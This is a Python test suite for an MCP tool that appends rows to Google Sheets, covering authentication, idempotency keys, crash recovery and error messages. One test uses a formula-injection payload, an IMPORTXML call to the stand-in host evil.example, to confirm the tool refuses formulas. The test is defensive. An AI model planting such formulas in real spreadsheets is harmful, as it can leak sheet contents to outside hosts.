"""Rows into a Google sheet: by the real interface over HTTP, once, read back, and never as formulas."""

import json
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import anyio
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from mcp import Client
from mcp.types import CallToolResult

from mcp_servers.common.server import server_from_environment
from tests.mcp_servers.common.calling import call
from tests.requirements import requirement
from tests.support.google_sheets import FakeGoogleSheets, running_google_sheets
from tests.support.tool_calls import content, words

ROBOT = "robot@project.iam.gserviceaccount.com"


@pytest.fixture(scope="module")
def private_key() -> str:
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    plain = serialization.NoEncryption()
    return key.private_bytes(serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, plain).decode()


@pytest.fixture
def google() -> Iterator[FakeGoogleSheets]:
    with running_google_sheets() as fake:
        yield fake


@pytest.fixture
def env(google: FakeGoogleSheets, tmp_path: Path, private_key: str) -> dict[str, str]:
    info = {"type": "service_account", "client_email": ROBOT, "private_key": private_key, "token_uri": google.token_url}
    return environment(google, tmp_path, info)


def environment(google: FakeGoogleSheets, directory: Path, info: dict[str, Any]) -> dict[str, str]:
    file = directory / "credentials.json"
    file.write_text(json.dumps(info))
    return {
        "GOOGLE_APPLICATION_CREDENTIALS": str(file),
        "GOOGLE_SHEETS_BASE_URL": google.base_url,
        "JIRITSU_COMMON_DIR": str(directory / "state"),
    }


async def write(env: dict[str, str], rows: list[list[Any]], key: str | None = None, **more: Any) -> CallToolResult:
    order = {"spreadsheet_id": "1aBc-_d", "range": "Sheet1!A1", "rows": rows} | more
    return await call(env, "write_rows_to_google_sheet", order, key)


@requirement("O1")
async def test_rows_go_below_the_table_as_they_are_and_are_read_back(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    google.sheets["Sheet1"] = [["date", "hours"], ["", ""], ["another table"]]
    written = content(await write(env, [["2026-11-21", 7.5], ["2026-11-22", None]]))
    assert google.sheets["Sheet1"][1:3] == [["2026-11-21", 7.5], ["2026-11-22", ""]]
    assert google.sheets["Sheet1"][4] == ["another table"]
    assert google.appends == [{"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"}]
    assert (written["updated_range"], written["appended"], written["verified"]) == ("Sheet1!A2:B3", 2, True)
    assert written["outbox"] is None


async def test_a_service_account_signs_for_its_token_and_asks_once(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    async with Client(server_from_environment(env)) as client:
        for _ in range(2):
            arguments = {"spreadsheet_id": "x", "range": "Sheet1", "rows": [["a"]]}
            content(await client.call_tool("write_rows_to_google_sheet", arguments))
    assert len(google.token_requests) == 1
    assert google.claims()["iss"] == ROBOT
    assert google.claims()["scope"] == "https://www.googleapis.com/auth/spreadsheets"


async def test_a_person_who_allowed_it_once_is_enough(google: FakeGoogleSheets, tmp_path: Path) -> None:
    info = {
        "type": "authorized_user",
        "refresh_token": "1//r",
        "client_id": "c",
        "client_secret": "s",
        "token_uri": google.token_url,
    }
    content(await write(environment(google, tmp_path, info), [["a"]]))
    assert google.token_requests[0]["grant_type"] == "refresh_token"


@requirement("O1")
async def test_a_formula_is_refused_before_anything_is_sent(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    result = await write(env, [["ok"], ['=IMPORTXML("https://evil.example","//a")']])
    assert result.is_error
    assert "row 2, column 1 begins like a formula" in words(result)
    assert google.token_requests == []


@requirement("O1")
async def test_a_row_whose_key_is_there_is_not_written_again(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    google.sheets["Sheet1"] = [["id", "v"], ["a", 1], ["b", 2]]
    written = content(await write(env, [["a", 1], ["b", 99], ["c", 3]], key_column=1))
    assert google.sheets["Sheet1"] == [["id", "v"], ["a", 1], ["b", 2], ["c", 3]]
    assert (written["appended"], written["already_there"], written["differing_keys"]) == (1, 2, ["b"])
    again = content(await write(env, [["a", 1], ["c", 3]], key_column=1))
    assert (again["appended"], again["updated_range"]) == (0, None)
    assert len(google.appends) == 1


@pytest.mark.parametrize(
    ("rows", "complaint"), [([["a"], ["a"]], "two rows have the key 'a'"), ([["a", 1], [None, 2]], "row 2 has nothing")]
)
async def test_keys_that_name_nothing_are_refused(
    env: dict[str, str], google: FakeGoogleSheets, rows: list[list[Any]], complaint: str
) -> None:
    result = await write(env, rows, key_column=1)
    assert result.is_error
    assert complaint in words(result)
    assert google.appends == []


@requirement("O1")
async def test_a_request_sent_again_under_its_key_writes_once_even_after_a_restart(
    google: FakeGoogleSheets, env: dict[str, str]
) -> None:
    first = content(await write(env, [["a"]], key="run-1/call-1"))
    again = content(await write(env, [["a"]], key="run-1/call-1"))
    other = content(await write(env, [["a"]], key="run-1/call-2"))
    assert google.sheets["Sheet1"] == [["a"], ["a"]]
    assert again == {**first, "replayed": True}
    assert other["replayed"] is False


async def test_a_key_used_for_other_rows_is_refused(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    content(await write(env, [["a"]], key="k"))
    result = await write(env, [["b"]], key="k")
    assert result.is_error
    assert "new one" in words(result)
    assert google.sheets["Sheet1"] == [["a"]]


async def test_a_lost_answer_is_settled_by_reading_back(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    google.sheets["Sheet1"] = [["a"]]
    google.lose_answers = 1
    written = content(await write(env, [["a"]], key="k"))
    assert google.sheets["Sheet1"] == [["a"], ["a"]]
    assert (written["updated_range"], written["verified"]) == ("Sheet1!A2:A2", True)


async def test_a_request_that_never_arrived_is_done_when_it_is_sent_again(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    google.sheets["Sheet1"] = [["a"]]  # the same values, from another time
    google.lose_answers, google.lost_before_done = 1, True
    unknown = await write(env, [["a"]], key="k")
    assert unknown.is_error
    assert "outcome is unknown" in words(unknown)
    assert google.sheets["Sheet1"] == [["a"]]
    assert content(await write(env, [["a"]], key="k"))["replayed"] is False
    assert google.sheets["Sheet1"] == [["a"], ["a"]]


async def test_a_crash_between_writing_and_remembering_is_noticed_on_the_next_try(
    google: FakeGoogleSheets, env: dict[str, str]
) -> None:
    google.sheets["Sheet1"] = [["a"]]
    google.lose_answers, google.lost_before_done = 1, True
    await write(env, [["a"]], key="k")
    google.sheets["Sheet1"].append(["a"])  # it arrived after all, later
    written = content(await write(env, [["a"]], key="k"))
    assert (written["replayed"], written["updated_range"]) == (True, "Sheet1!A2:A2")
    assert google.sheets["Sheet1"] == [["a"], ["a"]]


@pytest.mark.parametrize("refusals", [(), ((403, "no"),)])
async def test_a_ledger_that_is_gone_after_the_write_changes_nothing_of_what_is_told(
    google: FakeGoogleSheets, env: dict[str, str], monkeypatch: pytest.MonkeyPatch, refusals: tuple[tuple[int, str], ...]
) -> None:
    connect, opened = sqlite3.connect, list[Path]()

    def gone_after_the_claim(file: Path, **options: Any) -> sqlite3.Connection:
        opened.extend([file] if file.name == "ledger.sqlite3" else [])
        if len(opened) > 1:
            raise sqlite3.OperationalError("disk I/O error")
        return connect(file, **options)

    google.append_refusals = [*refusals]
    monkeypatch.setattr(sqlite3, "connect", gone_after_the_claim)
    result = await write(env, [["a"]], key="k")
    assert ("Share" in words(result)) if refusals else content(result)["appended"] == 1
    monkeypatch.undo()
    assert content(await write(env, [["a"]], key="k"))["replayed"] is not bool(refusals)
    assert google.sheets["Sheet1"] == [["a"]]


async def test_a_refused_request_leaves_its_key_free(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    google.append_refusals = [(403, "no")]
    dated: Any = {"rows": [["2026/11/21"]], "key": "k", "value_input": "USER_ENTERED"}
    assert "Share" in words(await write(env, **dated))
    assert content(await write(env, **dated))["replayed"] is False
    assert google.sheets["Sheet1"] == [[46347]]


async def test_what_the_sheet_has_changed_is_never_written_again_on_a_guess(
    google: FakeGoogleSheets, env: dict[str, str]
) -> None:
    google.lose_answers = 1
    for _ in range(2):
        result = await write(env, [["2026/11/21"]], key="k", value_input="USER_ENTERED")
        assert result.is_error
        assert "unknown" in words(result)
    assert google.sheets["Sheet1"] == [[46347]]  # the date, as the sheet keeps it


async def test_keys_are_compared_only_where_the_sheet_keeps_what_it_is_given(
    google: FakeGoogleSheets, env: dict[str, str]
) -> None:
    result = await write(env, [["2026/11/21"]], key_column=1, value_input="USER_ENTERED")
    assert "key_column needs RAW" in words(result)
    assert google.appends == []


async def test_without_any_key_a_lost_answer_is_admitted_and_nothing_is_sent_twice(
    google: FakeGoogleSheets, env: dict[str, str]
) -> None:
    google.lose_answers = 1
    result = await write(env, [["a"]])
    assert result.is_error
    assert "outcome is unknown" in words(result)
    assert google.sheets["Sheet1"] == [["a"]]


async def test_requests_at_once_under_one_key_are_one_from_two_processes_too(
    google: FakeGoogleSheets, env: dict[str, str]
) -> None:
    async with Client(server_from_environment(env)) as one, Client(server_from_environment(env)) as other:
        arguments = {"spreadsheet_id": "x", "range": "Sheet1", "rows": [["a"]]}

        async def send(client: Client) -> None:
            content(await client.call_tool("write_rows_to_google_sheet", arguments, meta={"jiritsu/idempotency-key": "k"}))  # type: ignore[typeddict-unknown-key]

        with anyio.fail_after(240):
            async with anyio.create_task_group() as group:
                for client in (one, other) * 2:
                    group.start_soon(send, client)
    assert google.sheets["Sheet1"] == [["a"]]


@pytest.mark.parametrize(
    ("status", "advice"),
    [
        (403, f"Share the spreadsheet with {ROBOT}"),
        (404, "between /d/ and /edit"),
        (429, "Try again in 7 s"),
        (400, "Check the range"),
    ],
)
async def test_a_refusal_says_what_to_do_next(google: FakeGoogleSheets, env: dict[str, str], status: int, advice: str) -> None:
    google.refusals = [(status, "no")]
    result = await write(env, [["a"]])
    assert result.is_error
    assert advice in words(result)
    assert google.sheets["Sheet1"] == []


async def test_an_error_of_the_server_while_writing_leaves_the_outcome_open(
    google: FakeGoogleSheets, env: dict[str, str]
) -> None:
    google.refusals = [(503, "later")]
    result = await write(env, [["a"]])
    assert "outcome is unknown" in words(result)


async def test_an_answer_that_does_not_say_where_leaves_the_outcome_open(google: FakeGoogleSheets, env: dict[str, str]) -> None:
    google.refusals = [(200, "no updates in this answer")]
    assert "outcome is unknown" in words(await write(env, [["a"]]))


async def test_a_google_that_cannot_be_reached_did_nothing(env: dict[str, str]) -> None:
    with running_google_sheets() as gone:
        pass
    result = await write(env | {"GOOGLE_SHEETS_BASE_URL": gone.base_url}, [["a"]])
    assert result.is_error
    assert "cannot be reached" in words(result)


@pytest.mark.parametrize("content", ["{}", "no json", '{"type": "service_account"}', '{"type": "authorized_user"}'])
def test_credentials_that_are_none_stop_the_server_by_name(tmp_path: Path, content: str) -> None:
    file = tmp_path / "c.json"
    file.write_text(content)
    with pytest.raises(ValueError, match=r"GOOGLE_APPLICATION_CREDENTIALS: .*c\.json is no credentials file"):
        server_from_environment({"GOOGLE_APPLICATION_CREDENTIALS": str(file)})


@requirement("O1", "L6")
async def test_without_credentials_the_rows_go_to_a_file_and_the_answer_says_so(tmp_path: Path) -> None:
    env = {"JIRITSU_COMMON_DIR": str(tmp_path)}
    first = content(await write(env, [["a", 1]], range="勤怠!B2"))
    second = content(await write(env, [["a", 1], ["b", 2]], range="勤怠!B2", key_column=1))
    assert (first["updated_range"], second["updated_range"], second["already_there"]) == ("勤怠!B1:C1", "勤怠!B2:C2", 1)
    assert first["verified"]
    assert second["outbox"] == str(tmp_path / "sheets.jsonl")
    entries = [json.loads(line) for line in (tmp_path / "sheets.jsonl").read_text().splitlines() if line]
    assert [(entry["spreadsheet_id"], entry["sheet"], entry["values"]) for entry in entries] == [
        ("1aBc-_d", "勤怠", ["a", 1]),
        ("1aBc-_d", "勤怠", ["b", 2]),
    ]


async def test_the_outbox_survives_a_line_torn_by_a_crash(tmp_path: Path) -> None:
    env = {"JIRITSU_COMMON_DIR": str(tmp_path)}
    content(await write(env, [["a"]]))
    with (tmp_path / "sheets.jsonl").open("a") as file:
        file.write('{"at": "2026-')
    assert content(await write(env, [["a"], ["b"]], key_column=1))["already_there"] == 1
    assert content(await write(env, [["b"]], key_column=1))["already_there"] == 1


async def test_a_directory_that_cannot_be_written_is_named(tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    result = await write({"JIRITSU_COMMON_DIR": str(tmp_path / "file")}, [["a"]], key="k")
    assert result.is_error
    assert "JIRITSU_COMMON_DIR" in words(result)
